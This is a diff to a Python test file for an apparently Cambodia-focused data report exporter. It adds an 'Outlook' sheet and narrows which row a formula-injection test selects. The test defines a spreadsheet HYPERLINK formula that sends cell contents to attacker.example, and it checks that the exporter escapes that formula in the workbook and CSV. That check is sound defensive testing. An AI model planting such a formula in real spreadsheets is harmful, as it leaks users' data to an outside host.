@@ -27,8 +27,17 @@ def cambodia(seeded):
     return cambodia_2024(seeded)
 
 
-ENGLISH_SHEETS = ["Cover", "Summary", "Sub-indices by edition", "Components", "Peers (ASEAN)", "Targets and status", "Sources and method"]
-KHMER_SHEETS = ["ទំព័រមុខ", "សេចក្តីសង្ខេប", "អនុសន្ទស្សន៍តាមឆ្នាំ", "សមាសធាតុ", "ប្រទេសអាស៊ាន", "គោលដៅ និងស្ថានភាព", "ប្រភព និងវិធីសាស្ត្រ"]
+ENGLISH_SHEETS = [
+    "Cover",
+    "Summary",
+    "Sub-indices by edition",
+    "Components",
+    "Peers (ASEAN)",
+    "Targets and status",
+    "Outlook",
+    "Sources and method",
+]
+KHMER_SHEETS = ["ទំព័រមុខ", "សេចក្តីសង្ខេប", "អនុសន្ទស្សន៍តាមឆ្នាំ", "សមាសធាតុ", "ប្រទេសអាស៊ាន", "គោលដៅ និងស្ថានភាព", "ទស្សនវិស័យ", "ប្រភព និងវិធីសាស្ត្រ"]
 MALICIOUS = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
@@ -172,12 +181,12 @@ def test_a_stored_formula_never_becomes_a_formula_in_the_workbook_or_the_csv(tmp
             for cell in row:
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
     components = rows(book["Components"])
-    injected = next(r for r in components if r[2] == 2023)
+    injected = next(r for r in components if r[1] == "internet_users_pct" and r[2] == 2023)
     assert injected[5] == "'" + MALICIOUS and injected[6] == "'=injected.csv"
     sources = rows(book["Sources and method"])
     assert any(r[5] == "'" + MALICIOUS for r in sources)
     parsed = list(csv.reader(io.StringIO(table_csv(report_tables.components(content, "en")).decode("utf-8-sig"))))
-    row = next(r for r in parsed if r[2] == "2023")
+    row = next(r for r in parsed if r[1] == "internet_users_pct" and r[2] == "2023")
     assert row[5] == "'" + MALICIOUS and row[6] == "'=injected.csv" and row[3] == "60.1"
     store.close()
 
